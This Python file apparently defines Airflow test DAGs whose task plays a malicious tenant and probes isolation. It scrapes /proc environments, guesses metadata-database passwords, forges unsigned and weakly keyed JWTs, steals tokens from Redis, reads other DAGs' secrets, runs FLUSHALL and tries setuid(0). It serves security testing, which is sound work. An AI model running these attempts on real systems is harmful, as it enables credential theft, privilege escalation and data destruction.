"""Tells what a task's code may try against Airflow: exists in tests alone. Each attack returns what it got, or what refused it.

The task does what somebody could who has put code into it: it has the environment, the files, the network and the supervisor of
a task, and looks at the processes beside it. Two hauls are left for the test, which knows the secrets and looks for them.
"""

import json
import os
import socket
from pathlib import Path
from urllib.error import HTTPError
from urllib.request import Request, urlopen

from airflow.sdk import DAG, task

API = os.environ.get("AIRFLOW__CORE__EXECUTION_API_SERVER_URL", "http://localhost:8080/execution/")
HAUL = Path(os.environ.get("AIRFLOW_VAR_DATA_ROOT", "/tmp")) / "attack"
MINE, THEIRS = "clickhouse_default", "q06_partner"


def ask(method: str, url: str, body: object = None, token: str = "") -> str:
    """The status of a request, and the beginning of the answer."""
    headers = {"Content-Type": "application/json", **({"Authorization": f"Bearer {token}"} if token else {})}
    request = Request(url, json.dumps(body).encode() if body is not None else None, headers, method=method)
    try:
        with urlopen(request, timeout=20) as response:
            return f"{response.status} {response.read(300).decode(errors='replace')}"
    except HTTPError as error:
        return f"{error.code} {error.read(300).decode(errors='replace')}"


def attempt(what) -> str:
    """Return what an attack got, as text, or its error."""
    try:
        return f"got: {what()!r}"[:600]
    except BaseException as error:
        return f"refused: {type(error).__name__}: {error}"[:600]


def supervised(message: object) -> str:
    """Return what the supervisor, which has this task's token, gets from the API server."""
    from airflow.sdk.execution_time.comms import ErrorResponse
    from airflow.sdk.execution_time.task_runner import SUPERVISOR_COMMS

    answer = SUPERVISOR_COMMS.send(message)
    if isinstance(answer, ErrorResponse):
        raise PermissionError(f"{answer.error.value} {answer.detail}")
    return repr(answer)


def redis(*command: str) -> object:
    """The answer of the broker to a command, as the user that a worker is there."""
    from redis import Redis

    with Redis.from_url(os.environ["AIRFLOW__CELERY__BROKER_URL"], socket_timeout=10) as client:
        return client.execute_command(*command)


def query_database(host: str) -> object:
    """The connections of the metadata database, by the address that this process has, and by guesses."""
    from airflow.configuration import conf
    from sqlalchemy import create_engine, text

    said = []
    guesses = (":@", ":airflow@", "@")
    for url in (
        conf.get("database", "sql_alchemy_conn"),
        *(f"postgresql+psycopg2://airflow{guess}{host}/airflow" for guess in guesses),
    ):
        try:
            with create_engine(url).connect() as connection:
                rows = connection.execute(text("SELECT conn_id, password FROM connection")).fetchall()
            return [tuple(row) for row in rows]
        except Exception as error:
            said.append(f"{type(error).__name__}: {str(error)[:120]}")
    raise PermissionError(" | ".join(said))


def forged(subject: str, key: str | None) -> str:
    """A token for a task, signed with a key, or not at all."""
    import time

    import jwt

    now = int(time.time())
    claims = {
        "sub": subject,
        "scope": "execution",
        "iat": now,
        "nbf": now,
        "exp": now + 600,
        "aud": "urn:airflow.apache.org:task",
    }
    return jwt.encode(claims, key, algorithm="HS512" if key else "none")


def stolen() -> str:
    """The token of a message that a worker has in its hands: this task's own, at least."""
    for held in redis("HVALS", "unacked"):
        message = json.loads(held)[0]
        import base64

        body = json.loads(base64.b64decode(message["body"]))
        workload = json.loads(body[0][0])
        if workload["ti"]["dag_id"] == "attack":
            return str(workload["token"])
    raise LookupError("no message of this DAG")


def state_of(victim: str, token: str) -> str:
    """Return what the API server says to another task's being called failed."""
    from datetime import UTC, datetime

    body = {"state": "failed", "end_date": datetime.now(UTC).isoformat()}
    said = ask("PATCH", f"{API}task-instances/{victim}/state", body, token)
    if said.startswith(("401", "403")):
        raise PermissionError(said)
    return said


def rest(method: str, path: str, body: object) -> str:
    """Return what the REST API says to somebody who has no account."""
    said = ask(method, API.replace("/execution/", path), body)
    if said.startswith(("401", "403")):
        raise PermissionError(said)
    return said


def processes() -> dict[str, str]:
    """Every environment and command line that /proc shows: of this process, those above it and those beside it."""
    found = {}
    for folder in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline"):
            try:
                found[f"{folder.name}/{name}"] = (folder / name).read_bytes().decode(errors="replace")
            except OSError as error:
                found[f"{folder.name}/{name}"] = f"refused: {error.strerror}"
    return found


def attack(params=None, ti=None) -> dict[str, str]:
    """Try everything; the victim is another task instance, which the test chose."""
    from airflow.sdk import Connection, Variable
    from airflow.sdk.execution_time.comms import GetConnection, GetVariable, GetXCom, PutVariable, TriggerDagRun

    from answers.stack.parameters.client import Parameters

    victim = params["victim"]
    HAUL.mkdir(parents=True, exist_ok=True)
    (HAUL / f"{ti.dag_id}.json").write_text(json.dumps(processes()))
    endpoint = os.environ.get("AIRFLOW__SECRETS__BACKEND_KWARG__ENDPOINT_URL", "")
    key = os.environ.get("AIRFLOW__SECRETS__BACKEND_KWARG__AWS_SECRET_ACCESS_KEY", "")
    above = os.getppid()
    return {
        # What a task may do, so that the refusals mean something.
        "own connection": attempt(lambda: Connection.get(MINE).host),
        "own queue": attempt(lambda: redis("LLEN", "light")),
        # The metadata database.
        "connection table": attempt(lambda: query_database(params.get("database", "postgres"))),
        # Tokens.
        "token with a guessed key": attempt(lambda: state_of(victim, forged(victim, "airflow" * 8))),
        "token with the worker's key": attempt(lambda: state_of(victim, forged(victim, (key or "none") * 4))),
        "token without signature": attempt(lambda: state_of(victim, forged(victim, None))),
        "own token for another task": attempt(lambda: state_of(victim, stolen())),
        "memory of the supervisor": attempt(lambda: Path(f"/proc/{above}/mem").open("rb").read(1)),
        # Runs of other DAGs.
        "start a run without an account": attempt(
            lambda: rest("POST", "/api/v2/dags/q10_canary/dagRuns", {"logical_date": None})
        ),
        "start a run by the supervisor": attempt(
            lambda: supervised(TriggerDagRun(dag_id="q10_canary", run_id="attacked"))
        ),
        # Secrets of another DAG.
        "their connection": attempt(lambda: Connection.get(THEIRS).password),
        "their connection by the supervisor": attempt(lambda: supervised(GetConnection(conn_id=THEIRS))),
        "their Variable": attempt(lambda: Variable.get("q06_pseudonym_secret")),
        "their Variable by the supervisor": attempt(lambda: supervised(GetVariable(key="q06_pseudonym_secret"))),
        "their XCom": attempt(
            lambda: supervised(
                GetXCom(key="return_value", dag_id="q06_partner_delivery", run_id="any", task_id="sign", map_index=-1)
            )
        ),
        "a Variable of the platform": attempt(
            lambda: supervised(PutVariable(key="flights_feed", value="/tmp", description=None))
        ),
        "the store as a writer": attempt(lambda: Parameters(endpoint, key).rotate(THEIRS, "stolen")),
        # The broker.
        "their queue": attempt(lambda: redis("LRANGE", "partner", "0", "-1")),
        "a message into their queue": attempt(lambda: redis("LPUSH", "partner", "{}")),
        "messages in their worker's hands": attempt(lambda: redis("HGETALL", "partner_unacked")),
        "a route from their queue": attempt(
            lambda: redis("SADD", "_kombu.binding.partner", "partner\x06\x16\x06\x16light")
        ),
        "every key of the broker": attempt(lambda: redis("KEYS", "*")),
        "the broker's own password": attempt(lambda: redis("CONFIG", "GET", "requirepass")),
        "an empty broker": attempt(lambda: redis("FLUSHALL")),
        # The project.
        "a DAG file": attempt(lambda: Path("/opt/airflow/dags/intruder.py").write_text("")),
        "a plugin": attempt(lambda: Path("/opt/airflow/plugins/intruder.py").write_text("")),
        "rights": attempt(lambda: Path("/opt/airflow/config/task_access.yaml").write_text("")),
        "another user": attempt(lambda: os.setuid(0)),
        "a raw socket": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    }


# On Kubernetes once more, in a pod of its own.
EXECUTORS = {"attack": None, "attack_in_a_pod": "KubernetesExecutor"}
for dag_id, executor in EXECUTORS.items():
    if executor and executor not in os.environ.get("AIRFLOW__CORE__EXECUTOR", ""):
        continue
    with DAG(dag_id, schedule=None, catchup=False, default_args={"retries": 0}):
        task(attack, executor=executor)()
